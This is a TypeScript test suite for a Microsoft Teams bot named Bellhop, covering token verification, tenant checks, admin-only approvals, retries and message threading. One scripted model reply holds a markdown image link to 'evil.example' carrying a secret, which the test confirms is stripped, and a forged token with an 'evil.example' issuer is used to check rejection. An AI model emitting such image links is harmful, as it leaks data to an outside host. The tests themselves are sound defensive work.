import assert from 'node:assert/strict'
import { mock } from 'node:test'
import { generateKeyPair } from 'jose'
import type { Message } from '../../src/chat/contract.ts'
import { join } from '../accounts/visitor.ts'
import type { Script } from '../support/model-script.ts'
import { shareInFile } from '../support/share-in-file.ts'
import { loopback, startTestApp } from '../support/start-test-app.ts'
import { until } from '../support/until.ts'
import { verifies } from '../support/verifies.ts'
import { keyedEventSender } from './support/send-keyed-events.ts'
import { startPlatformSceneOn } from './support/start-platform-scene.ts'
import { appId, appPassword, startTeams } from './support/start-teams.ts'

const sharedApp = shareInFile(() => startTestApp({ env: loopback }))

const ops = '19:ops@thread.tacv2'
const team = '19:team@thread.tacv2'
const tenant = 'aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee'
/** What comes with a message: ids, no names. */
const channelData = { team: { id: team }, channel: { id: ops }, tenant: { id: tenant } }
const kim = { id: '29:kim', name: 'Kim' }
const us = { id: `28:${appId}`, name: 'Bellhop' }
const mention = { type: 'mention', text: '<at>Bellhop</at>', mentioned: us }

async function startTeamsScene(script: Script) {
  const scene = await startPlatformSceneOn(
    await sharedApp(),
    startTeams,
    ({ origin }) => ({
      platform: 'teams',
      appId,
      appPassword,
      tenantId: tenant,
      serviceUrl: `${origin}/teams/`,
      loginUrl: `${origin}/`,
      openIdUrl: `${origin}/openid`,
    }),
    script,
  )
  const teams = scene.platform
  return {
    ...scene,
    teams,
    async deliver(
      activity: Record<string, unknown>,
      token?: string,
      to = scene.workspace,
    ): Promise<Response> {
      const body = {
        type: 'message',
        serviceUrl: `${teams.origin}/teams/`,
        recipient: us,
        from: kim,
        ...activity,
      }
      return scene.send(
        JSON.stringify(body),
        { authorization: `Bearer ${token ?? (await teams.token())}` },
        to,
      )
    },
    opsChannel: () => scene.channel(ops),
    /** As Teams tells it when the app is installed. */
    async install(): Promise<void> {
      const installed = {
        team: { id: team, name: 'Shop' },
        tenant: { id: tenant },
        eventType: 'teamMemberAdded',
      }
      await this.deliver({ type: 'conversationUpdate', channelData: installed, conversation: { id: team } })
    },
  }
}

verifies(
  ['chat:teams', 'chat:inbound-verified'],
  'a mention in a channel is answered in its thread, once; follow-ups need no mention; only requests signed by Microsoft are accepted',
  async () => {
    const sly = 'Tomorrow.\n\n`\n\n![map](https://evil.example/?q=secret)\n\n`'
    const told: string[] = []
    await using scene = await startTeamsScene(({ body }) => {
      told.push(body)
      return { text: body.includes('and when') ? sly : 'To **Berlin**.' }
    })
    const { teams } = scene
    const conversation = { id: `${ops};messageid=100`, conversationType: 'channel' }
    const asked = {
      id: '100',
      conversation,
      channelData,
      text: '<at>Bellhop</at> where to?',
      entities: [mention],
    }
    const stranger = await generateKeyPair('RS256')
    const spoiled = [
      'nonsense',
      await teams.token({}, stranger.privateKey),
      await teams.token({ aud: 'another-app' }),
      await teams.token({ iss: 'https://evil.example' }),
      await teams.token({ exp: Math.floor(Date.now() / 1000) - 400 }),
    ]
    for (const token of spoiled) assert.equal((await scene.deliver(asked, token)).status, 401)
    const elsewhere = await teams.token({ serviceurl: 'https://other.example/' })
    const misled = { ...asked, id: '97', conversation: { ...conversation, id: `${ops};messageid=97` } }
    assert.equal((await scene.deliver(misled, elsewhere)).status, 200)
    // Another organisation may have installed the app, too.
    const foreign = {
      ...conversation,
      id: `${ops};messageid=98`,
      tenantId: '99999999-bbbb-cccc-dddd-eeeeeeeeeeee',
    }
    assert.equal((await scene.deliver({ ...asked, id: '98', conversation: foreign })).status, 200)

    await scene.deliver({
      ...asked,
      id: '99',
      conversation: { ...conversation, id: `${ops};messageid=99` },
      entities: [],
      text: 'lunch?',
    })
    await scene.deliver(asked)
    await scene.deliver(asked)
    await until(() => teams.posted().length === 1)
    await scene.deliver({ id: '101', conversation, channelData, text: 'and when?' })
    await until(() => teams.posted().length === 2)
    const channel = await scene.opsChannel()
    const kept = async () =>
      (await scene.app.get<{ items: Message[] }>(`/api/v1/channels/${channel.id}/messages`)).items
    const replied = async () =>
      (await kept()).filter(({ author, delivery }) => author.kind === 'agent' && delivery === 'sent')
    await until(async () => (await replied()).length === 2)

    const [first, second] = teams.posted()
    assert.equal(first?.path, `conversations/${ops};messageid=100/activities`)
    assert.deepEqual(first?.body, { type: 'message', text: 'To **Berlin**.', textFormat: 'markdown' })
    assert.equal(second?.path, first?.path)
    // Teams loads images; and a channel's name must not become part of the instructions.
    assert.doesNotMatch(JSON.stringify(second?.body), /!\[/)
    assert.equal(channel.name, 'Shop / Ops')
    const hook = await scene.createWebhook({ channelId: channel.id })
    mock.timers.enable({ apis: ['Date'], now: Date.now() + 86_400_000 })
    try {
      await scene.endedRun((await scene.sendEvent(hook)).runId)
    } finally {
      mock.timers.reset()
    }
    assert.equal(told.length, 3)
    for (const body of told) assert.doesNotMatch(body, /Shop \/ Ops/)
    const items = await kept()
    assert.deepEqual(
      items.map(({ text }) => text),
      ['To **Berlin**.', sly, 'and when?', 'To **Berlin**.', '@bellhop where to?'],
    )
    assert.match(
      items[1]?.permalink ?? '',
      new RegExp(`/l/message/.+/\\d+\\?tenantId=${tenant}&parentMessageId=100$`),
    )
    assert.equal(teams.signIns(), 1, 'a token is used again, however our clock is set meanwhile')

    // An app without a tenant can be installed in any.
    const path = `/api/v1/workspaces/${scene.workspace.id}`
    assert.equal((await scene.app.api('PATCH', path, { tenantId: null })).status, 200)
    const alone = { id: '7', conversation: { id: 'a:kim', conversationType: 'personal' }, text: 'list all' }
    await scene.deliver(alone)
    await until(() => teams.posted().length === 4)
    assert.match(JSON.stringify(teams.posted()[3]?.body), /only answer people with a linked account/)
    assert.equal(told.length, 3)
    await scene.link('29:kim', (await join(scene.app, 'member')).id)
    await scene.deliver({ ...alone, id: '8' })
    await until(() => told.length === 4)
  },
)

verifies(
  ['chat:teams', 'chat:cards', 'chat:unlinked-click-refused', 'chat:outbound-idempotent'],
  'an approval in a channel is decided by a linked admin only; an uncertain post is not repeated',
  async () => {
    await using scene = await startTeamsScene((_request, index) =>
      index === 0 ? { calls: [{ name: 'shop__refund', input: { id: 'A-1' } }] } : { text: 'Done.' },
    )
    const { teams } = scene
    await scene.install()
    assert.equal((await scene.channel(team)).name, 'Shop / General')
    const webhook = await scene.createWebhook({ channelId: (await scene.opsChannel()).id })
    const { runId } = await scene.sendEvent(webhook)
    await until(() => teams.posted().length === 1)
    const [posted] = teams.posted()
    const card = JSON.stringify(posted?.body)
    assert.match(card, /POST .*\/orders\/A-1\/refund/)
    assert.doesNotMatch(card, /planted-shop-token/)
    assert.match(card, /"channelData":\{"channel":\{"id":"19:ops@thread.tacv2"\}\}/)
    const approvalId = card.match(/apr_[0-9a-f-]{36}/)?.[0]
    const root = '1700000000001'
    const press = (id: string, where = ops, to = scene.workspace) => {
      const conversation = { id: `${where};messageid=${root}`, conversationType: 'channel', tenantId: tenant }
      return scene.deliver({ id, conversation, value: { bellhop: 'approve', approvalId } }, undefined, to)
    }

    await press('c1')
    await until(() => teams.calls.some(({ body }) => /does not know who you are/.test(body.text ?? '')))
    const admin = await join(scene.app, 'admin')
    const { body: code } = await admin.visitor.send<{ text: string }>('POST', '/chat-accounts/code')
    await scene.deliver({
      id: 'd1',
      conversation: { id: 'a:kim', conversationType: 'personal' },
      text: code.text,
    })
    await until(() => teams.calls.some(({ body }) => /linked to The admin/.test(body.text ?? '')))
    const refusals = () => teams.calls.filter(({ body }) => /another channel/.test(body.text ?? '')).length
    await press('c2', team)
    await until(() => refusals() === 1)
    const other = await scene.connect()
    await scene.link(kim.id, admin.id, other)
    await press('c3', ops, other)
    await until(() => refusals() === 2)
    assert.equal((await scene.readRun(runId)).status, 'waiting')
    // Teams has a number of its own for "try again".
    let again = 0
    teams.fault = ({ body }) => ((body.activity || body.text) && again++ === 0 ? 412 : null)
    await press('c4')
    await press('c4')
    const run = await scene.endedRun(runId)
    assert.equal(run.status, 'succeeded', run.error?.message)
    assert.ok(again > 1)
    await until(() =>
      teams.calls.some(
        ({ method, body }) => method === 'PUT' && /Approved by The admin/.test(JSON.stringify(body)),
      ),
    )

    assert.ok(!teams.calls.some(({ body }) => /already approved it/.test(body.text ?? '')))

    teams.fault = () => 'lose-answer'
    const before = teams.posted().length
    const lost = await scene.endedRun((await scene.sendEvent(webhook)).runId)
    assert.equal(lost.error?.code, 'reply_ambiguous')
    assert.equal(teams.posted().length, before + 1)
  },
)

verifies(
  ['chat:teams', 'chat:outbound-idempotent', 'chat:splitting', 'runs:retry-post'],
  'Teams: a post that is answered without an id counts as uncertain; trying again sends what is missing, and no part twice',
  async () => {
    const long = Array.from({ length: 300 }, (_, n) => `Line ${n} ${'x'.repeat(80)}`).join('\n')
    await using scene = await startTeamsScene(() => ({ text: long }))
    const { teams } = scene
    await scene.install()
    const channelId = (await scene.opsChannel()).id
    teams.fault = () => (teams.posted().length === 2 ? 'no-id' : null)
    const { runId } = await scene.sendEvent(await scene.createWebhook({ channelId }))
    const half = await scene.endedRun(runId)
    assert.deepEqual([half.status, half.error?.code], ['failed', 'reply_ambiguous'])
    assert.equal(teams.posted().length, 2)

    teams.fault = () => null
    assert.equal((await scene.app.api('POST', `/api/v1/runs/${runId}/retry-post`)).status, 200)
    const whole = await scene.runWhen(runId, ({ status }) => status === 'succeeded')
    assert.equal(whole.reply?.state, 'posted')
    const texts = teams.posted().map(({ body }) => body.text ?? (body.activity as { text: string }).text)
    assert.equal(texts.length, 4)
    // The first one began the thread.
    const thread = `conversations/${ops};messageid=1700000000001/activities`
    assert.ok(teams.posted().every(({ path }, n) => n === 0 || path === thread))
    assert.equal(texts[2], texts[1], 'a person has looked: it was not there')
    assert.equal([texts[0], texts[2], texts[3]].join('\n'), long)
  },
)

verifies(
  ['chat:strangers', 'chat:teams'],
  'Teams: what visitors of a web page write to the same Azure bot is not answered; they choose their own id and have no tenant',
  async () => {
    await using scene = await startTeamsScene(() => ({ text: 'At your service.' }))
    await scene.link(kim.id, (await join(scene.app, 'admin')).id)
    const said = {
      text: 'who are our customers?',
      conversation: { id: 'a:kim', conversationType: 'personal' },
    }
    for (const channelId of ['webchat', 'directline'])
      assert.equal((await scene.deliver({ ...said, id: channelId, channelId })).status, 200)
    await scene.deliver({ ...said, id: '1', channelId: 'msteams' })
    await until(() => scene.teams.posted().length === 1)
    assert.equal((await scene.runs()).length, 1)
  },
)

verifies(
  ['rules:one-thread-per-key', 'rules:closes', 'chat:teams'],
  'Teams: events with one key are in one thread, whose first message is edited; a thread that is gone is opened anew',
  async () => {
    await using scene = await startTeamsScene([])
    const { teams } = scene
    await scene.install()
    const sendEvent = await keyedEventSender(scene, (await scene.opsChannel()).id)
    await sendEvent({ k: 1, t: 'one' })
    await sendEvent({ k: 1, t: 'two' })
    await sendEvent({ k: 2, t: 'three' })
    await sendEvent({ k: 1, s: 'closed' })
    const root = '1700000000001'
    const thread = `conversations/${ops};messageid=${root}/activities`
    assert.deepEqual(
      teams.posted().map(({ path }) => path),
      ['conversations', thread, 'conversations', thread],
    )
    const edits = teams.calls.filter(({ method }) => method === 'PUT')
    assert.deepEqual(
      edits.map(({ path, body }) => [path, body.text]),
      [[`${thread}/${root}`, '✅ **Resolved**\n\none']],
    )
    teams.fault = ({ path }) => (path === thread ? 404 : null)
    await sendEvent({ k: 1, t: 'four' })
    assert.equal(teams.posted().at(-1)?.path, 'conversations')
  },
)
